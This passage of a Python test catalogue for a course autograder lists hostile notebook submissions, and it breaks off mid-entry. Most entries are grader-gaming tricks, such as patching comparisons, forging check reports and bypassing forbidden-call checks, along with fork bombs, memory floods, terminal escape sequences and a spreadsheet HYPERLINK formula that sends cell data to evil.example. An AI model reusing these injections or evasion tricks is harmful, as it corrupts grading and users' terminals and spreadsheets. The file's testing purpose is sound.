# Issue 21: student text meant for a terminal or a spreadsheet. An OSC sequence sets the
# terminal's title, ESC[2J clears it, U+202E reverses what follows: none reaches a result.
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202e"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
RAISES_A_FORMULA = f'''
def attention_scores(query, key):
    named = type({FORMULA + ESCAPES!r}, (ValueError,), {{}})
    raise named({ESCAPES + "read me"!r})
'''


def _kernel_with_escapes(kit):
    nb = _r_kernel(kit)
    nb["metadata"]["kernelspec"]["display_name"] = "R" + ESCAPES
    return nb


def _grade_id_with_escapes(nb):
    """Two cells of an exercise nobody asked for, named with escape sequences."""
    cell = copy.deepcopy(_solution_cell(nb, "attention_scores"))
    cell["metadata"]["nbgrader"]["grade_id"] = "extra" + ESCAPES
    cell.pop("id", None)
    nb["cells"] += [cell, copy.deepcopy(cell)]


# ---------------------------------------------------------------------------------------
# The catalogue
# ---------------------------------------------------------------------------------------

SCORES = "test_attention_scores"
ENTROPY = "test_attention_entropy"
SOFTMAX = ("test_stable_softmax", "test_stable_softmax_large")
SDPA = ("test_sdpa", "test_sdpa_large", "test_sdpa_cross")
MASKED_SDPA = ("test_scaled_dot_product_attention", "test_invariances")
CRASH = r"crashed the grader's process for it: the student's process died"
TIMEOUT = r"^Timed out: no answer within \d+ s"
PARTIAL = r"^Timed out: no complete answer within 2 s \(a message cut short"
OUT_OF_TIME = r"^Timed out: the notebook's time limit ran out"
# a forbid decided from the source: a forbidden name, or code that could hide one
# (the teaching forbid's message, raised in the student's process, arrives as what their
# code raised: "stable_softmax raised CheckFailure: you called ...")
TEACHING = r"^(\S+ raised CheckFailure: )?"
FORBIDDEN_SEEN = TEACHING + r"(you called \S+, |\S+'s tests need it written without)"


def each(tests, verdict):
    return {t: verdict for t in tests}


ENTRIES = [
    # 1-3: tamper with what judges the answer
    Hostile("rebinds_allclose_and_friends", cells(attention_scores=REBIND_COMPARISONS),
            Expect(tests={SCORES: failed(r"the scores are not scaled")})),
    Hostile("returns_always_equal_object", cells(attention_scores=ALWAYS_EQUAL),
            Expect(tests={SCORES: failed(r"expected a torch\.Tensor, got AlwaysEqual")})),
    Hostile("returns_always_equal_pair",
            cells(scaled_dot_product_attention=ALWAYS_EQUAL_PAIR),
            Expect(tests=each(SDPA, failed(r"output: expected a torch\.Tensor, got "
                                           r"AlwaysEqual")))),
    Hostile("returns_lying_tensor_subclass", cells(attention_entropy=TENSOR_SUBCLASS_LIAR),
            # (the zeros family names what it returned: the lie about equality fools nothing)
            Expect(tests={ENTROPY: failed(r"attention_entropy\(weights\) is wrong: every entry "
                                          r"is 0 where the right answer is not")})),
    Hostile("tensor_subclass_raises_systemexit",
            cells(stable_softmax=TENSOR_SUBCLASS_RAISES),
            Expect(tests=each(SOFTMAX, failed(r"^SystemExit: no tensor for you")))),
    Hostile("tensor_subclass_raises_keyboardinterrupt",
            cells(attention_scores=TENSOR_SUBCLASS_INTERRUPT),
            Expect(tests={SCORES: failed(CRASH, "crash")})),
    # (and reaching the checks costs the points of the tests that forbid shortcuts: from
    # such code, no process could be trusted to say what it called)
    Hostile("patches_checks_in_its_process", cells(attention_scores=PATCH_CHECKS),
            Expect(tests={SCORES: failed(r"the scores are not scaled"),
                          **each(SOFTMAX + SDPA, failed(FORBIDDEN_SEEN))})),
    Hostile("delegates_softmax", cells(stable_softmax=SOFTMAX_DELEGATED),
            Expect(tests=each(SOFTMAX, failed(r"you called softmax")))),
    # what a function calls is decided from the submitted source (autograde/forbids.py):
    # a forbidden name in the exercise's cell, or code anywhere that could hide a call
    Hostile("switches_off_the_forbid_in_its_process", cells(stable_softmax=FORBID_BYPASS),
            Expect(tests=each(SOFTMAX + SDPA, failed(FORBIDDEN_SEEN)))),
    # ... and the instructor's report names it
    Hostile("switches_off_the_forbid_and_is_flagged", cells(stable_softmax=FORBID_BYPASS),
            Expect(tests=each(SOFTMAX + SDPA, failed(FORBIDDEN_SEEN)),
                   problems=[("suspicious", r"^cell stable_softmax, line 2: imports "
                                            r"checks\.common \(the checks run in the grader"),
                             ("suspicious", r"^cell stable_softmax, line 4: uses checks\."
                                            r"common\._ForbidSpec\.__torch_function__")])),
    # (the reference attention calls torch.softmax, not the student's stable_softmax: what
    # stable_softmax does costs chapter 1's attention nothing)
    Hostile("forbidden_softmax_from_a_thread", cells(stable_softmax=SOFTMAX_FROM_A_THREAD),
            Expect(tests=each(SOFTMAX, failed(FORBIDDEN_SEEN)),
                   problems=[("suspicious", r"^cell stable_softmax, line 1: imports threading")])),
    Hostile("forbidden_softmax_under_disable_torch_function",
            cells(stable_softmax=SOFTMAX_UNDER_DISABLE_TORCH_FUNCTION),
            Expect(tests=each(SOFTMAX + SDPA, failed(FORBIDDEN_SEEN)),
                   problems=[("suspicious", r"uses torch\._C\.DisableTorchFunction")])),
    Hostile("forbidden_softmax_from_torch_ops", cells(stable_softmax=SOFTMAX_FROM_TORCH_OPS),
            Expect(tests={**each(SDPA, failed(FORBIDDEN_SEEN)),
                          **each(SOFTMAX, failed(TEACHING + r"you called _softmax, a "
                                                 r"softmax that PyTorch computes for you"))},
                   problems=[("suspicious", r"uses torch\.ops")])),
    Hostile("forbidden_softmax_by_computed_name_in_a_thread",
            cells(stable_softmax=SOFTMAX_COMPUTED_NAME_IN_A_THREAD),
            # (a computed name can reach anything, from any cell: every forbid's tests)
            Expect(tests=each(SOFTMAX + SDPA, failed(FORBIDDEN_SEEN)),
                   problems=[("suspicious", r"imports concurrent\.futures"),
                             ("suspicious", r"calls getattr with a computed name")])),
    Hostile("forbidden_softmax_by_computed_name", cells(stable_softmax=SOFTMAX_COMPUTED_NAME),
            # (the teaching forbid, by name, catches this one as it runs; a computed name
            # can reach anything, from any cell: every forbid's tests)
            Expect(tests={**each(SOFTMAX, failed(TEACHING + r"you called softmax, a softmax "
                                                 r"that PyTorch computes for you")),
                          **each(SDPA, failed(FORBIDDEN_SEEN))},
                   problems=[("suspicious", r"calls getattr with a computed name")])),
    Hostile("rebinds_f_scaled_dot_product_attention",
            cells(attention_scores=REBINDS_SDPA, scaled_dot_product_attention=SDPA_FROM_REBOUND),
            Expect(tests=each(SDPA, failed(FORBIDDEN_SEEN)),
                   problems=[("suspicious", r"replaces F\.scaled_dot_product_attention "
                                            r"\(patches torch\)")])),
    Hostile("raises_its_own_check_failure", cells(attention_scores=FORGED_CHECK_FAILURE),
            Expect(tests={SCORES: failed(r"^attention_scores raised CheckFailure: \u2714 "
                                         r"attention_scores passed")})),
    Hostile("patches_the_forbid_through_importlib",
            cells(attention_scores=PATCHES_THROUGH_IMPORTLIB,
                  stable_softmax=SOFTMAX_COMPUTED_NAME),
            Expect(tests=each(SOFTMAX + SDPA, failed(FORBIDDEN_SEEN)),
                   problems=[("suspicious", r"^cell attention_scores, line 1: imports "
                                            r"importlib")])),
    Hostile("core_runs_nn_multiheadattention_from_a_thread",
            cells(multihead_attention_core=CORE_FROM_A_THREAD),
            Expect(tests={"test_multihead_attention_core": failed(
                r"^you called nn\.MultiheadAttention \(F\.multi_head_attention_forward\), "
                r"which does the whole exercise for you")},
                   problems=[("suspicious", r"imports threading")]), chapter=CH2),
    # 4: tamper with the test cells
    Hostile("test_cells_replaced_by_pass", edited(_blank_tests, attention_scores=UNSCALED),
            Expect(tests={SCORES: failed(r"the scores are not scaled")})),
    Hostile("test_points_inflated_and_bonus_test", edited(_inflate_tests), Expect()),
    Hostile("test_cells_ungraded_or_deleted",
            edited(_ungrade_or_delete_tests, attention_entropy=ENTROPY_BITS),
            Expect(tests={ENTROPY: failed(r"log base 2 \(bits\)")})),
    # 5: the filesystem
    Hostile("writes_gradebook_and_course_files", cells(attention_scores=WRITE_EVERYWHERE),
            Expect(), needs="bwrap"),
    Hostile("reads_hidden_tests_and_solutions", cells(attention_scores=READ_EVERYWHERE),
            Expect(), needs="bwrap"),
    Hostile("imports_chapter5_solutions_from_release",
            cells(attention_scores=CHAPTER5_SOLUTIONS),
            Expect(tests={SCORES: failed(r"NameError: name 'attention_scores' is not "
                                         r"defined")}), needs="bwrap"),
    Hostile("reads_the_graders_environment",
            cells(attention_scores=ENVIRONMENT_CANARY.replace("{canary}", CANARY)), Expect()),
    # 6: noise that is not an error
    Hostile("warns_and_prints_to_stderr_at_top_level", cells(attention_scores=WARN_AT_TOP),
            Expect()),
    # (nbgrader itself scores 0 a test cell with output on stderr: it would fail this one)
    Hostile("prints_to_stdout_and_stderr_in_function",
            cells(attention_scores=STDERR_IN_FUNCTION), Expect()),
    # (nbgrader would score it 0: the warning goes to stderr)
    Hostile("warns_in_function", cells(attention_entropy=WARN_IN_FUNCTION), Expect()),
    # 7: crashes
    Hostile("os_exit_in_function", cells(attention_entropy=EXIT_IN_ENTROPY),
            Expect(tests={ENTROPY: failed(CRASH, "crash")})),
    Hostile("segfault_in_function", cells(stable_softmax=SEGFAULT_IN_SOFTMAX),
            Expect(tests=each(SOFTMAX, failed(CRASH, "crash")))),
    Hostile("sigkill_itself_in_function", cells(scaled_dot_product_attention=KILLS_ITSELF),
            Expect(tests=each(SDPA, failed(CRASH, "crash")))),
    # 8: hangs
    Hostile("infinite_loops_in_function_and_at_top_level",
            cells(attention_scores=LOOP_IN_FUNCTION, stable_softmax=LOOP_AT_TOP),
            Expect(tests={SCORES: failed(TIMEOUT, "timeout")},
                   problems=[("timeout", r"^cell stable_softmax, line \d+: no answer within "
                                         r"2 s")]),
            limits={"call_seconds": 2}),
    # 2 s for the first test, the 2 s left for the second, nothing for the others
    Hostile("every_function_sleeps_past_the_notebook_limit", cells(**SLEEP_EVERYWHERE),
            Expect(tests={SCORES: failed(TIMEOUT, "timeout"),
                          ENTROPY: failed(TIMEOUT, "timeout"),
                          **each(SOFTMAX + SDPA, failed(OUT_OF_TIME, "timeout"))}),
            limits={"call_seconds": 2, "notebook_seconds": 4}),
    # 9: memory
    Hostile("allocates_50GB_tensor", cells(attention_scores=TORCH_50GB),
            Expect(tests={SCORES: failed(r"^attention_scores raised RuntimeError: .*"
                                         r"can't allocate memory: you tried to allocate "
                                         r"50000000000 bytes")})),
    # (about a second each, alone; on 2 cores loaded 4-fold, over the suite's 5 s: seen)
    Hostile("grows_a_list_until_memory_runs_out", cells(attention_entropy=LIST_GROWTH),
            Expect(tests={ENTROPY: failed(r"^attention_entropy raised MemoryError")}),
            limits={"call_seconds": 20}),
    Hostile("allocates_64MB_chunks_until_memory_runs_out", cells(stable_softmax=CHUNKS_GROWTH),
            Expect(tests=each(SOFTMAX, failed(r"^stable_softmax raised MemoryError"))),
            limits={"call_seconds": 20}),
    # 10: processes
    Hostile("fork_bomb", cells(attention_scores=FORK_BOMB),
            Expect(tests={SCORES: failed(r"^attention_scores raised BlockingIOError: "
                                         r"\[Errno 11\] Resource temporarily unavailable")}),
            needs="uid"),
    Hostile("forks_once_and_both_answer", cells(attention_entropy=FORK_ONCE), Expect()),
    Hostile("spawns_processes_and_threads", cells(stable_softmax=SPAWNERS),
            Expect(tests=each(SOFTMAX, failed(r"^stable_softmax raised RuntimeError: "
                                              r"can't start new thread"))),
            needs="uid"),
    Hostile("leaves_a_subprocess_behind",
            cells(scaled_dot_product_attention=SUBPROCESS_AND_RETURN), Expect()),
    # 11: output
    Hostile("prints_100MB", cells(attention_scores=HUGE_PRINT), Expect()),
    Hostile("prints_100MB_and_is_wrong", cells(attention_entropy=HUGE_PRINT_WRONG),
            Expect(tests={ENTROPY: failed(r"attention_entropy\(weights\) is wrong")})),
    Hostile("returns_128MB_tensor", cells(attention_scores=RETURNS_128MB),
            Expect(tests={SCORES: failed(r"^OutputLimit: a result of \d+ bytes is over the "
                                         r"output limit")})),
    Hostile("returns_2GB_tensor", cells(stable_softmax=RETURNS_2GB),
            # over the memory limit before it is over the output limit
            Expect(tests=each(SOFTMAX, failed(r"^stable_softmax raised RuntimeError: .*"
                                              r"can't allocate memory")))),
    # 12: daemons
    Hostile("daemon_writes_garbage_to_inherited_fds", cells(attention_scores=DAEMON_WRITER),
            Expect(tests={SCORES: failed(r"broke the grader's protocol: message header of "
                                         r"\d+ bytes", "protocol")})),
    Hostile("daemon_sleeps_holding_inherited_fds", cells(attention_entropy=DAEMON_SLEEPER),
            Expect()),
    # its own messages on the grader's socket, other ways to quit
    Hostile("writes_deep_json_on_the_socket", cells(attention_scores=DEEP_JSON_MESSAGE),
            Expect(tests={SCORES: failed(r"broke the grader's protocol: maximum recursion "
                                         r"depth exceeded while decoding", "protocol")})),
    Hostile("writes_half_a_message_and_hangs", cells(attention_entropy=HALF_A_MESSAGE),
            Expect(tests={ENTROPY: failed(PARTIAL, "timeout")}), limits={"call_seconds": 2}),
    Hostile("trickles_a_message_a_byte_at_a_time", cells(attention_scores=TRICKLE),
            Expect(tests={SCORES: failed(PARTIAL, "timeout")}), limits={"call_seconds": 2}),
    Hostile("closes_every_fd", cells(attention_entropy=CLOSES_EVERY_FD),
            Expect(tests={ENTROPY: failed(CRASH, "crash")})),
    Hostile("sys_exit_at_top_level", cells(stable_softmax=EXITS_AT_TOP_LEVEL),
            Expect(problems=[("error", r"^cell stable_softmax, line \d+: SystemExit: bye")])),
    Hostile("function_is_a_list_nested_5000_deep",
            cells(scaled_dot_product_attention=NESTED_TOO_DEEP),
            Expect(tests=each(SDPA, failed(r"^RecursionError: maximum recursion depth "
                                           r"exceeded")))),
    Hostile("writes_100MB_file", cells(attention_scores=WRITES_100MB_FILE),
            # (the repair family leads: without the loop that writes, the check passes)
            Expect(tests={SCORES: failed(r"(?m)^attention_scores raised OSError: \[Errno 27\] "
                                         r"File too large")})),
    # 13: broken input
    Hostile("not_json", raw(b"this is not { a notebook"),
            Expect("error", error=r"01_attention\.ipynb is not a notebook \(not valid JSON")),
    Hostile("empty_file", raw(b""),
            Expect("error", error=r"01_attention\.ipynb is empty \(0 bytes\)")),
    Hostile("missing_file", raw(None),
            Expect("error", error=r"no notebook named 01_attention\.ipynb was submitted")),
    Hostile("json_list_not_a_notebook", raw(b"[1, 2, 3]"),
            Expect("error", error=r"is JSON but not a Jupyter notebook \(no cell list\)")),
    Hostile("json_object_without_cells", raw(json.dumps({"metadata": {}}).encode()),
            Expect("error", error=r"is JSON but not a Jupyter notebook \(no cell list\)")),
    Hostile("nbformat_3", _nbformat3, Expect("error", error=r"has nbformat 3; expected 4")),
    Hostile("r_kernel", _r_kernel,
            Expect("error", error=r"uses the R kernel; the course's notebooks are Python")),
    Hostile("chapter_2_submitted_as_chapter_1", _other_chapter,
            Expect("error", error=r"holds 0 of 01_attention's 4 exercises; it holds "
                                  r"02_heads's exercises")),
    Hostile("notebook_of_500MB", raw(Sparse(500 * 2**20)),
            Expect("error", error=r"^01_attention\.ipynb is 500 MB, over the limit of 20 "
                                  r"MB: clear its outputs and submit again$")),
    Hostile("json_nested_100000_deep", raw(b"[" * 100_000 + b"]" * 100_000),
            Expect("error", error=r"^01_attention\.ipynb is not a notebook \(its JSON is "
                                  r"nested too deeply to read\)$")),
    Hostile("not_utf8", raw(b'{"cells": [], "metadata": {"x": "\xff\xfe"}}'),
            Expect("error", error=r"^01_attention\.ipynb is not a notebook \(not valid JSON: "
                                  r"'utf-8' codec can't decode byte 0xff")),
    Hostile("cell_metadata_is_a_list", _dumped(_cell_metadata_list),
            Expect("error", error=INVALID + r"at cells\[\d+\]\.metadata: \['nbgrader', "
                                            r"'solution'\] is not of type 'object'$")),
    Hostile("source_list_holds_integers", _dumped(_source_with_integers),
            Expect("error", error=INVALID + r"at cells\[\d+\]\.source: .* is not valid "
                                            r"under any of the given schemas$")),
    Hostile("notebook_metadata_is_a_list", _dumped(_notebook_metadata_list),
            Expect("error", error=INVALID + r"at metadata: \[\] is not of type 'object'$")),
    Hostile("a_cell_that_is_a_list", _dumped(_cell_a_list),
            Expect("error", error=INVALID + r"at cells\[3\]: \[1, 2, 3\] is not a cell "
                                            r"\(a JSON object\)$")),
    Hostile("nbformat_minor_a_string", _dumped(_minor_a_string),
            Expect("error", error=INVALID + r"nbformat_minor is '5', not a version number$")),
    Hostile("lone_surrogate_in_solution_cell", _dumped(_lone_surrogate),
            Expect("error", error=r"^01_attention\.ipynb holds text that is not valid Unicode "
                                  r"\(a lone surrogate\) in cells\[\d+\]\.source: save it "
                                  r"again from Jupyter$")),
    # nbgrader metadata is free-form in nbformat's schema: a cell whose metadata is not a
    # dict is an ordinary cell, whose definitions still run
    Hostile("nbgrader_metadata_is_a_list", edited(_nbgrader_metadata_list), Expect()),
    # as nbgrader's DeduplicateIds: the last cell of an id counts, the others are ordinary
    # cells (run before it); said in the report and the feedback
    Hostile("duplicated_grade_ids", edited(_duplicated_grade_id),
            Expect(tests={SCORES: failed(r"the scores are not scaled")},
                   problems=[("duplicate", r"^cell \d+: the exercise 'attention_scores' is in "
                                           r"2 cells \(\d+, \d+\): graded from the last, as "
                                           r"nbgrader does")])),
    Hostile("expression_nested_100000_deep", cells(**DEEP_EXPRESSIONS),
            Expect(tests={SCORES: failed(r"^NameError: name 'attention_scores' is not defined"),
                          ENTROPY: failed(r"^NameError: name 'attention_entropy' is not "
                                          r"defined")},
                   problems=[("error", r"^cell attention_scores, line 1: MemoryError"),
                             ("error", r"^cell attention_entropy, line 1: RecursionError: "
                                       r"maximum recursion depth exceeded during compilation")])),
    # 14: what one submission leaves for the next; caps outside the memory limit
    Hostile("sysv_shared_memory_left_for_the_next", cells(attention_scores=SYSV_SHARED_MEMORY),
            Expect(), needs="bwrap", twice=True),
    Hostile("file_left_in_dev_shm", cells(attention_scores=DEV_SHM_FILE), Expect(),
            needs="bwrap", twice=True),
    Hostile("posix_message_queue_left", cells(attention_scores=POSIX_MESSAGE_QUEUE), Expect(),
            needs="bwrap", twice=True),
    Hostile("fills_its_scratch_folder", cells(attention_scores=FILLS_SCRATCH), Expect(),
            needs="bwrap", twice=True),
    Hostile("fills_dev_shm", cells(attention_entropy=FILLS_DEV_SHM), Expect(), needs="bwrap",
            twice=True),
    Hostile("deep_directory_tree", cells(attention_scores=DEEP_DIRECTORY_TREE), Expect(),
            twice=True),
    Hostile("output_of_30MB", _huge_output,
            Expect("error", error=r"01_attention\.ipynb is 30 MB, over the limit of 20 MB: "
                                  r"clear its outputs")),
    # other chapters
    Hostile("heads_rebinds_allclose_and_exits", cells(
        split_heads="import torch\ntorch.allclose = lambda *a, **k: True\n\n"
                    "def split_heads(x, num_heads):\n    return x[:, None]\n",
        merge_heads="import os\n\ndef merge_heads(x):\n    os._exit(3)\n"),
            Expect(tests={"test_split_heads": failed(r"values are right but in another layout: "
                                                     r".*put into shape \(2, 1, 5, 12\)"),
                          "test_split_heads_divisibility": failed(r"returned \(2, 1, 5, 10\) "
                                                                  r"without an error"),
                          "test_merge_heads": failed(CRASH, "crash"),
                          "test_multihead_attention_core": failed(CRASH, "crash")}),
            chapter=CH2),
    # (the core, which calls the student's split_heads, changes its own input `query` too)
    Hostile("heads_split_zeroes_its_input", cells(split_heads=SPLIT_HEADS_ZEROES_ITS_INPUT),
            Expect(tests={"test_split_heads": failed(r"changed its argument `x` in place"),
                          "test_multihead_attention_core": failed(
                              r"changed its argument `query` in place")}),
            chapter=CH2),
    Hostile("heads_split_hides_its_write_by_replacing_the_report",
            cells(split_heads=SPLIT_HEADS_HIDES_ITS_WRITE),
            Expect(tests={"test_split_heads": failed(r"changed its argument `x` in place"),
                          "test_multihead_attention_core": failed(
                              r"changed its argument `query` in place")},
                   problems=[("suspicious", r"^cell split_heads, line 1: imports checks\.common")]),
            chapter=CH2),
    Hostile("scores_hide_an_in_place_write_by_replacing_the_report",
            cells(attention_scores=SCORES_HIDES_ITS_WRITE),
            Expect(tests={SCORES: failed(r"^attention_scores is wrong: it changed its argument "
                                         r"`query` in place"),
                          **each(SOFTMAX + SDPA, failed(FORBIDDEN_SEEN))})),
    Hostile("mha_stub_forges_its_structure", cells(MultiHeadAttention=MHA_STUB_FORGES_ITS_STRUCTURE),
            Expect(tests={"test_mha_structure": failed(r"MultiHeadAttention is not implemented "
                                                       r"yet|not implemented yet"),
                          "test_mha_forward": failed(r"not implemented yet")},
                   problems=[("suspicious", r"imports checks\.mha")]), chapter=CH3),
    Hostile("mha_forges_its_forward_from_the_reference",
            cells(MultiHeadAttention=MHA_FORGES_ITS_FORWARD),
            Expect(tests={"test_mha_forward": failed(r"forward \(.*\) is not implemented yet")},
                   problems=[("suspicious", r"imports checks\.mha")]), chapter=CH3),
    Hostile("mha_forward_delegated_under_disable_torch_function",
            cells(MultiHeadAttention=MHA_FORWARD_UNDER_DISABLE_TORCH_FUNCTION),
            Expect(tests={"test_mha_forward": failed(
                r"^you called nn\.MultiheadAttention \(F\.multi_head_attention_forward\), "
                r"which does the whole exercise for you; .*\(in your code: cell "
                r"MultiHeadAttention, line \d+: F\.multi_head_attention_forward\)")},
                   problems=[("suspicious", r"uses torch\._C\.DisableTorchFunction")]),
            chapter=CH3),
    Hostile("load_stub_forges_its_report", cells(load_from_torch=LOAD_STUB_FORGES_ITS_REPORT),
            Expect(tests={"test_load_from_torch": failed(r"not implemented yet"),
                          "test_mha_forward": failed(FORBIDDEN_SEEN)},
                   problems=[("suspicious", r"imports checks\.mha")]), chapter=CH3),
    Hostile("constant_zero_attention", cells(scaled_dot_product_attention=ZERO_ATTENTION),
            Expect(tests=each(SDPA, failed(r"is wrong")))),
    # chapter 4: its forbid, bypassed; a constant answer earns neither the attention's
    # points nor the invariances' (a constant is trivially invariant)
    Hostile("masks_forbidden_sdpa_from_a_thread",
            cells(scaled_dot_product_attention=MASKED_SDPA_FROM_A_THREAD),
            Expect(tests=each(MASKED_SDPA, failed(FORBIDDEN_SEEN)),
                   problems=[("suspicious", r"thread")]), chapter="04_masks"),
    Hostile("masks_forbidden_sdpa_by_computed_name",
            cells(scaled_dot_product_attention=MASKED_SDPA_COMPUTED_NAME),
            Expect(tests=each(MASKED_SDPA, failed(FORBIDDEN_SEEN))), chapter="04_masks"),
    Hostile("masks_constant_zero_attention", cells(scaled_dot_product_attention=ZERO_ATTENTION),
            Expect(tests={"test_scaled_dot_product_attention": failed(r"is wrong"),
                          "test_invariances": failed(r"does not change when the values "
                                                     r"change")}), chapter="04_masks"),
    # chapter 3: forgeries of what a probe used to report
    Hostile("load_target_prefilled", cells(load_from_torch=LOAD_TARGET_PREFILLED),
            Expect(tests={"test_load_from_torch": failed(r"malformed data \(`ours` before "
                                                         r"load_from_torch ran\)"),
                          "test_mha_forward": failed(FORBIDDEN_SEEN)},
                   problems=[("suspicious", r"imports checks\.mha")]), chapter=CH3),
    # chapter 5: forgeries of what a probe used to report
    _forged_ch5("diversity_stub_class_forges_its_build", "make_heads_identical",
                DIVERSITY_STUB_CLASS_FORGES_ITS_BUILD,
                ("test_make_heads_identical", "test_prune_heads"),
                r"^MultiHeadAttention\(.*\) is not implemented yet"),
    _forged_ch5("diversity_identical_forges_its_params", "make_heads_identical",
                DIVERSITY_IDENTICAL_FORGES_ITS_PARAMS, ("test_make_heads_identical",),
                r"q_proj\.weight was not changed", r"importlib"),
    _forged_ch5("diversity_identical_stub_forges_its_report", "make_heads_identical",
                DIVERSITY_IDENTICAL_STUB_FORGES_ITS_REPORT, ("test_make_heads_identical",),
                r"not implemented yet"),
    _forged_ch5("diversity_ablation_stub_forges_its_report", "ablation_importance",
                DIVERSITY_ABLATION_STUB_FORGES_ITS_REPORT, ("test_ablation_importance",),
                r"not implemented yet"),
    _forged_ch5("diversity_ablation_zeros_on_an_inert_model", "ablation_importance",
                DIVERSITY_ABLATION_ZEROS_ON_AN_INERT_MODEL, ("test_ablation_importance",),
                r"is wrong", r"importlib"),
    _forged_ch5("diversity_prune_stub_forges_its_report", "prune_heads",
                DIVERSITY_PRUNE_STUB_FORGES_ITS_REPORT, ("test_prune_heads",),
                r"not implemented yet"),
    # chapter 6: forgeries of what a probe used to report (construction and structure,
    # forward, the cache, the decoding loop, equivariance_gap): the grader now reads values
    # and drives the calls itself, so each stub earns nothing; chapter 6 forbids nothing
    Hostile("kv_gqa_stub_forges_its_structure",
            cells(GroupedQueryAttention=KV_GQA_STUB_FORGES_ITS_STRUCTURE),
            Expect(tests={"test_gqa_structure": failed(r"^GroupedQueryAttention\(16, 4, 2\) is "
                                                       r"not implemented yet"),
                          "test_gqa_forward": failed(r"^GroupedQueryAttention\(16, 4, 2\) is "
                                                     r"not implemented yet")},
                   problems=[("suspicious", r"imports importlib")]), chapter=CH6),
    Hostile("kv_gqa_forges_its_forward_with_pytorchs_attention",
            cells(GroupedQueryAttention=KV_GQA_FORGES_ITS_FORWARD),
            Expect(tests={"test_gqa_forward": failed(r"^forward \(no mask\) is not "
                                                     r"implemented yet")},
                   problems=[("suspicious", r"imports importlib")]), chapter=CH6),
    Hostile("kv_cache_stub_forges_its_report",
            cells(decoding=KV_CACHE_STUB_FORGES_ITS_REPORT),
            Expect(tests={"test_kv_cache": failed(r"^append #1 \(keys .*\) is not implemented "
                                                  r"yet"),
                          "test_cached_attention": failed(
                              r"cached_attention\(attn, x_new of 3 positions, cache\), the "
                              r"prompt is not implemented yet")},
                   problems=[("suspicious", r"imports importlib")]), chapter=CH6),
    Hostile("kv_decoding_stub_forges_its_steps",
            cells(decoding=KV_DECODING_STUB_FORGES_ITS_STEPS),
            Expect(tests={"test_cached_attention": failed(
                r"^cached_attention\(attn, x_new of 3 positions, cache\), the prompt is not "
                r"implemented yet")},
                   problems=[("suspicious", r"imports importlib")]), chapter=CH6),
    # chapter 7: the same for equivariance_gap
    Hostile("positions_equivariance_stub_forges_its_gaps",
            cells(equivariance_gap=POSITIONS_EQUIVARIANCE_STUB_FORGES_ITS_GAPS),
            Expect(tests={"test_equivariance_gap": failed(
                r"^equivariance_gap \(attention with position vectors added\) is not "
                r"implemented yet")},
                   problems=[("suspicious", r"imports importlib")]), chapter=CH7),
    Hostile("positions_equivariance_zero_on_a_zero_layer",
            cells(equivariance_gap=POSITIONS_EQUIVARIANCE_ZERO_ON_A_ZERO_LAYER),
            Expect(tests={"test_equivariance_gap": failed(
                r"^equivariance_gap \(attention with position vectors added\) returned 0, "
                r"expected")},
                   problems=[("suspicious", r"imports importlib")]), chapter=CH7),
    # chapter 7: forgeries of what a probe used to report
    Hostile("capstone_block_stub_forges_its_report",
            cells(transformer_block=CAPSTONE_BLOCK_STUB_FORGES_ITS_REPORT),
            Expect(tests={"test_transformer_block": failed(r"not implemented yet")},
                   problems=[("suspicious", r"imports checks\.capstone")]), chapter=CH8),
    Hostile("capstone_step_stub_forges_its_report",
            cells(train_step=CAPSTONE_STEP_STUB_FORGES_ITS_REPORT),
            Expect(tests={"test_train_step": failed(r"not implemented yet")},
                   problems=[("suspicious", r"imports checks\.capstone")]), chapter=CH8),
    Hostile("capstone_step_model_reports_training",
            cells(train_step=CAPSTONE_STEP_MODEL_REPORTS_TRAINING),
            Expect(tests={"test_train_step": failed(r"returned the loss 1, expected")},
                   problems=[("suspicious", r"imports checks\.capstone")]), chapter=CH8),
    Hostile("capstone_generate_stub_forges_its_report",
            cells(generate=CAPSTONE_GENERATE_STUB_FORGES_ITS_REPORT),
            Expect(tests={"test_generate": failed(r"not implemented yet")},
                   problems=[("suspicious", r"imports checks\.capstone")]), chapter=CH8),
    # the values fail; the forged log only words the failure (its calls had no caches)
    Hostile("capstone_decoder_model_logs_a_right_run",
            cells(generate=CAPSTONE_DECODER_MODEL_LOGS_A_RIGHT_RUN),
            # (its zero logits are named before the forged call log is read: either way,
            # no point)
            Expect(tests={"test_generate": failed(r"use_cache=False but the model was given "
                                                  r"caches|logits is wrong: every entry is 0")},
                   problems=[("suspicious", r"imports checks\.capstone")]), chapter=CH8),
    Hostile("heads_raises_its_own_valueerror", cells(split_heads=SPLIT_HEADS_OWN_VALUEERROR),
            Expect(), chapter=CH2),
    # issue 21: honest numpy numbers, from every exercise that returns one: full marks
    Hostile("numpy_int64_parameter_count", cells(count_parameters=NUMPY_COUNT_PARAMETERS),
            Expect(), chapter=CH3),
    Hostile("numpy_uint32_and_0d_int64_kv_counts", cells(counts=NUMPY_KV_COUNTS), Expect(),
            chapter=CH6),
    Hostile("numpy_float64_equivariance_gap", cells(equivariance_gap=NUMPY_EQUIVARIANCE_GAP),
            Expect(), chapter=CH7),
    Hostile("numpy_float32_equivariance_gap",
            cells(equivariance_gap=NUMPY_EQUIVARIANCE_GAP_32), Expect(), chapter=CH7),
    Hostile("numpy_float64_training_loss", cells(train_step=NUMPY_TRAIN_STEP), Expect(),
            chapter=CH8),
    Hostile("numpy_0d_array_training_loss", cells(train_step=NUMPY_TRAIN_STEP_0D), Expect(),
            chapter=CH8),
    # issue 21: escape sequences and formulas in student text (every text of every result
    # is checked for control characters by test_hostile_submission)
    Hostile("kernel_name_with_terminal_escapes", _kernel_with_escapes,
            Expect("error", error=r"uses the R\]0;owned\[2J\[31m kernel; the course's "
                                  r"notebooks are Python")),
    Hostile("exception_named_like_a_formula_with_escapes",
            cells(attention_scores=RAISES_A_FORMULA),
            Expect(tests={SCORES: failed(r"^attention_scores raised =HYPERLINK\("
                                         r"\"http://evil\.example/\?\"&A1,\"click\"\)\]0;"
                                         r"owned\[2J\[31m: \]0;owned\[2J\[31mread me")})),
    Hostile("grade_id_with_terminal_escapes", edited(_grade_id_with_escapes),
            Expect(problems=[("duplicate", r"the exercise 'extra\]0;owned\[2J\[31m' is in 2 "
                                           r"cells")])),
    # issue 21: floods of prints, one call each, in chapters 1, 6, 7 and 8
    Hostile("prints_20KB_in_7600_statements", cells(**{
        cell: PRINT_FLOOD + _reference_edit(CH1, cell) for cell in (
            "attention_scores", "attention_entropy", "stable_softmax",
            "scaled_dot_product_attention")}), Expect(),
        limits=FLOOD_TIME),
    Hostile("kv_prints_20KB_in_5700_statements", cells(**{
